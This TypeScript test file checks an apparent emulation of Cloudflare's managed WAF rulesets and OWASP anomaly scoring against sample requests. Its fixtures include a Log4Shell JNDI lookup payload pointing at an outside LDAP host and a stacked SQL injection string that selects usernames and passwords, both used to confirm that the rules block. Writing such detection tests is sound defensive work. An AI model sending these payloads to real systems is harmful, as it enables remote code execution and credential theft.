import { describe, expect, it } from 'vitest';
import {
  evaluateManagedPhase,
  evaluateManagedRuleset,
  OWASP_ANOMALY_RULE_ID,
  scoreOwaspRuleset,
} from '../../src/engine/managed/index.js';
import { formatRequestProblem, readSampleRequest, type SampleRequest } from '../../src/request/index.js';

function request(json: Record<string, unknown>): SampleRequest {
  const result = readSampleRequest({ method: 'GET', version: 'HTTP/1.1', ...json });
  if (!result.ok) throw new Error(result.problems.map(formatRequestProblem).join('\n'));
  return result.request;
}

const browser = {
  Host: 'www.example.com',
  'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
  Accept: 'text/html',
};

const page = request({ url: 'https://www.example.com/blog?page=2', headers: browser });
const log4shell = request({
  url: 'https://www.example.com/',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is ${…} text, as attackers send it
  headers: { ...browser, 'X-Api-Version': '${jndi:ldap://198.51.100.7/a}' },
});
// Many SQL injection techniques in one value: enough matching OWASP rules to pass the default threshold.
const heavySqli = request({
  url: `https://www.example.com/item?id=${encodeURIComponent("1' UNION SELECT username, password FROM users WHERE '1'='1' AND SLEEP(5) -- ")}`,
  headers: browser,
});

describe('the Cloudflare Managed Ruleset', () => {
  it('lets a page view through without matching anything', () => {
    expect(evaluateManagedRuleset(page)).toEqual({ matched: [] });
  });

  it('blocks Log4Shell in any header, naming the rule that blocked', () => {
    const outcome = evaluateManagedRuleset(log4shell);
    expect(outcome.action).toBe('block');
    expect(outcome.terminatingRule?.categories).toContain('cve-2021-44228');
    expect(outcome.matched.at(-1)).toBe(outcome.terminatingRule);
  });

  it('goes on after a rule that logs, and ends at the first rule that blocks', () => {
    const enumeration = request({ url: 'https://www.example.com/wp-json/wp/v2/users', headers: browser });
    const logged = evaluateManagedRuleset(enumeration);
    expect(logged.action).toBeUndefined();
    expect(logged.matched.map((rule) => rule.description)).toEqual(['WordPress - User enumeration']);
  });

  it('does not run rules that are off by default', () => {
    const noUserAgent = request({ url: 'https://www.example.com/', headers: { Host: 'www.example.com' } });
    expect(evaluateManagedRuleset(noUserAgent).matched).toEqual([]);
  });
});

describe('the OWASP Core Ruleset', () => {
  it('adds up the scores of the matching rules and blocks at the threshold', () => {
    const outcome = scoreOwaspRuleset(heavySqli);
    expect(outcome.score).toBe(outcome.matched.reduce((sum, rule) => sum + rule.score, 0));
    expect(outcome.score).toBeGreaterThanOrEqual(40);
    expect(outcome.action).toBe('block');
    expect(outcome.matched.some((rule) => rule.id === OWASP_ANOMALY_RULE_ID)).toBe(false);
  });

  it('fires at a score equal to the threshold, not below it', () => {
    const { score } = scoreOwaspRuleset(heavySqli);
    expect(scoreOwaspRuleset(heavySqli, { scoreThreshold: score }).action).toBe('block');
    expect(scoreOwaspRuleset(heavySqli, { scoreThreshold: score + 1 }).action).toBeUndefined();
  });

  it("takes the anomaly rule's action from the settings", () => {
    expect(scoreOwaspRuleset(heavySqli, { action: 'managed_challenge' }).action).toBe('managed_challenge');
    expect(scoreOwaspRuleset(heavySqli, { action: 'log' }).action).toBe('log');
  });

  it('runs only the rules up to the paranoia level', () => {
    // A parameter given twice is a paranoia level 3 finding.
    const repeated = request({ url: 'https://www.example.com/search?tag=a&tag=b', headers: browser });
    expect(scoreOwaspRuleset(repeated, { paranoiaLevel: 2 }).matched).toEqual([]);
    const atLevel3 = scoreOwaspRuleset(repeated, { paranoiaLevel: 3 });
    expect(atLevel3.matched.map((rule) => rule.description)).toContain('921180: HTTP Parameter Pollution');
    expect(atLevel3.matched.every((rule) => rule.paranoiaLevel <= 3)).toBe(true);
  });

  it('defaults to the migration settings: paranoia level 2, threshold 40', () => {
    expect(scoreOwaspRuleset(page)).toMatchObject({
      score: 0,
      paranoiaLevel: 2,
      scoreThreshold: 40,
      matched: [],
    });
  });
});

describe('both rulesets in the managed phase', () => {
  it('stops at the Cloudflare Managed Ruleset when it blocks, before scoring', () => {
    const outcome = evaluateManagedPhase(log4shell);
    expect(outcome.action).toBe('block');
    expect(outcome.owasp).toBeUndefined();
  });

  it('scores with OWASP when the Managed Ruleset lets the request through', () => {
    const outcome = evaluateManagedPhase(page);
    expect(outcome.action).toBeUndefined();
    expect(outcome.managed?.matched).toEqual([]);
    expect(outcome.owasp?.score).toBe(0);
  });

  it('leaves out a ruleset that is not deployed', () => {
    expect(evaluateManagedPhase(log4shell, { managed: false }).managed).toBeUndefined();
    expect(evaluateManagedPhase(page, { owasp: false }).owasp).toBeUndefined();
    expect(evaluateManagedPhase(heavySqli, { managed: false }).action).toBe('block');
  });
});
